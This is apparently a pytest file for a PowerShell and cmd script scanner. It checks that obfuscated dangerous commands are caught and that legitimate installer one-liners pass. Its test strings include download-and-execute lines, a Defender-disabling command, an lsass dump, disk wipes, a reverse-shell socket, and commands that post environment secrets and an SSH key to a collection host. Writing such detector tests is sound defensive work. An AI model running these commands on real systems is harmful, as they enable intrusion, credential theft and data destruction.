"""PowerShell and cmd: dangers are found under their disguise, and honest scripts stay quiet."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard.corpus import Pair, pairs
from whet.guard.code.windows import check, plain
from whet.guard.finding import LABELS, SEVERITIES, Finding, Seen, verdict
from whet.guard.rules import every, pack

FAST = settings(max_examples=120, deadline=None)
BY_ID = every()
OURS = [pair for pair in pairs() if pair.pack == "windows"]


def label(seen: Seen) -> str:
    return verdict(
        Finding(hit.rule, hit.severity or BY_ID[hit.rule].severity, "", "", hit.line, "", "", "") for hit in seen.hits
    )


def found(text: str) -> dict[str, str]:
    """The rules that a script breaks, each with its worst severity."""
    worst: dict[str, str] = {}
    for hit in check(text).hits:
        severity = hit.severity or BY_ID[hit.rule].severity
        if SEVERITIES.index(severity) >= SEVERITIES.index(worst.get(hit.rule, "info")):
            worst[hit.rule] = severity
    return worst


@pytest.mark.parametrize("pair", OURS, ids=[pair.id for pair in OURS])
def test_a_danger_is_found_and_its_twin_is_not(pair: Pair) -> None:
    bad = check(pair.bad["scripts/run.ps1"].data.decode())
    good = check(pair.good["scripts/run.ps1"].data.decode())
    assert set(pair.rules) <= {hit.rule for hit in bad.hits}
    assert LABELS.index(label(bad)) >= LABELS.index(pair.expect)
    assert not set(pair.rules) & {hit.rule for hit in good.hits}
    assert label(good) == "safe"


def test_every_rule_has_a_pair() -> None:
    assert {rule.id for rule in pack("windows")} <= {rule for pair in OURS for rule in pair.rules}


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("iwr http://203.0.113.5/a.ps1 | iex", "pipe-shady"),
        ('i`e`x (i`wr "http://203.0.113.5/a")', "pipe-shady"),
        ("&('i'+'ex') (New-Object Net.WebClient).('Down'+'loadString').Invoke('http://203.0.113.5/a')", "pipe-shady"),
        ("$u = 'http://203.0.113.5/a.ps1'\nirm $u | iex", "pipe-shady"),
        ("$c = (New-Object Net.WebClient).DownloadString('http://203.0.113.5/x')\nInvoke-Expression $c", "pipe-shady"),
        (
            "(New-Object Net.WebClient).DownloadFile('http://203.0.113.5/a.exe','C:\\T\\a.exe'); & C:\\T\\a.exe",
            "runs-download",
        ),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "defender-off"),
        ("c^ert^util -decode a.txt a.exe && start a.exe", "system-tool-download"),
        ('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"', "system-tool-script"),
        ('schtasks /create /tn u /tr "powershell -c iex(irm http://203.0.113.5/x)" /sc minute', "windows-autostart"),
        ("wmic shadowcopy delete", "delete-shadows"),
        ("procdump -ma lsass.exe out.dmp", "windows-credentials"),
        ("del /f /s /q C:\\*", "wipe-home"),
        ("rd /s /q C:\\", "wipe-home"),
        ("format c: /q", "wipe-disk"),
        ("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))", "decode-to-shell"),
        (".($pshome[4]+$pshome[34]+'x') 'hi'", "split-command"),
        ('$c = New-Object Net.Sockets.TCPClient("203.0.113.5",4444)\n$o = (iex $data 2>&1)', "shell-handed-over"),
        (
            "Invoke-RestMethod https://collect.example -Method Post -Body (Get-ChildItem Env: | Out-String)",
            "secret-sent",
        ),
        ("$k = Get-Content $HOME\\.ssh\\id_rsa\niwr https://collect.example -Method POST -Body $k", "secret-sent"),
    ],
)
def test_dangers_are_critical(text: str, rule: str) -> None:
    assert found(text).get(rule) == "critical"


def test_an_encoded_command_is_read() -> None:
    code = base64.b64encode("iex (irm http://203.0.113.5/a.ps1)".encode("utf-16-le")).decode()
    assert found(f"# start\npowershell -nop -w hidden -enc {code}") == {
        "encoded-command": "critical",
        "pipe-shady": "critical",
    }


HONEST = {
    "chocolatey": "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient)"
    ".DownloadString('https://community.chocolatey.org/install.ps1'))",
    "scoop": "irm get.scoop.sh | iex",
    "uv": 'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
    "bun": "irm bun.sh/install.ps1 | iex",
    "building": "Remove-Item -Recurse -Force .\\dist\nrm -Recurse -Force C:\\Users\\me\\app\\build\nrd /s /q out",
    "a download": "Invoke-WebRequest https://data.example/a.csv -OutFile a.csv\nImport-Csv a.csv",
    "an interface": 'irm https://api.example -Method Post -Headers @{ Authorization = "Bearer $env:KEY" }',
    "a task": 'schtasks /create /tn backup /tr "C:\\tools\\backup.exe" /sc daily',
    "digests": "certutil -hashfile a.exe SHA256\nGet-FileHash a.exe",
    "tables": "Get-Process | Format-Table Name, Id\n$x = 'a' + 'b'",
}


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
def test_honest_scripts_stay_quiet(text: str) -> None:
    assert {rule: severity for rule, severity in found(text).items() if severity != "info"} == {}


def test_lines_keep_their_numbers_over_continuations() -> None:
    text = "$a = 1\nWrite-Host `\n  'one'\n\niwr http://203.0.113.5/a.ps1 `\n  | iex\n"
    assert [(hit.rule, hit.line) for hit in check(text).hits] == [("pipe-shady", 6)]


@pytest.mark.parametrize(
    "padding", ["$a = 1; " * 2_000, "$a = '" + "x" * 9_000 + "'; ", "iwr https://data.example/a -o a\n" * 900]
)
def test_nothing_before_it_hides_a_statement(padding: str) -> None:
    assert found(f"{padding}iwr http://203.0.113.5/a.ps1 | iex")["pipe-shady"] == "critical"


def test_disguise_is_taken_off() -> None:
    assert plain("c^md /c d^el x") == "cmd /c del x"
    assert plain("('Down'+'load')") == "('Download')"
    assert plain("In`voke-Ex`pression x") == "Invoke-Expression x"


@FAST
@given(st.text(max_size=300))
def test_any_text_is_judged(text: str) -> None:
    assert isinstance(check("iwr iex hidden bypass enc " + text), Seen)


@FAST
@given(st.data())
def test_backticks_and_case_hide_nothing(data: st.DataObject) -> None:
    name = data.draw(st.sampled_from(["iex", "Invoke-Expression"]))
    cut = data.draw(st.integers(1, len(name) - 1))
    spelled = name[:cut] + ("`" if name[cut].isalpha() else "") + name[cut:]
    spelled = data.draw(st.sampled_from([spelled, spelled.upper(), spelled.lower()]))
    blank = data.draw(st.sampled_from([" ", "  ", "\t"]))
    assert found(f"irm{blank}http://203.0.113.5/a{blank}|{blank}{spelled}\r\n")["pipe-shady"] == "critical"
